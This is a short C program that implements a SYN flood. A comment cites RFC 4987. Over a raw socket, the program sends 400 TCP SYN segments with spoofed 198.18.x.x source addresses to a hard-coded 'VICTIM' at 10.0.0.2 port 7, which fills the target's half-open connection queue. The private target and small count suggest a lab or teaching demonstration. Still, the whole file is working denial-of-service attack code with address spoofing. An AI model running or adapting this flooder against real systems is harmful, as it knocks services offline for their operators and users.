/* SYN flood: SYNs from addresses that nobody has fill the half-open queue of a listener (RFC 4987 §2). */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include "segment.h"

#define VICTIM "10.0.0.2"
#define PORT 7
#define SYNS 400

int main(void) {
  int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), i;
  char from[INET_ADDRSTRLEN];

  if (s < 0) {
    perror("socket");
    exit(1);
  }
  for (i = 0; i < SYNS; i++) {
    snprintf(from, sizeof from, "198.18.%d.%d", i / 250, 1 + i % 250);
    segment(s, from, 1024 + i, VICTIM, PORT, i * 64000, 0, SYN, "");
    usleep(2000);
  }
  printf("%d SYNs\n", SYNS);
  return 0;
}
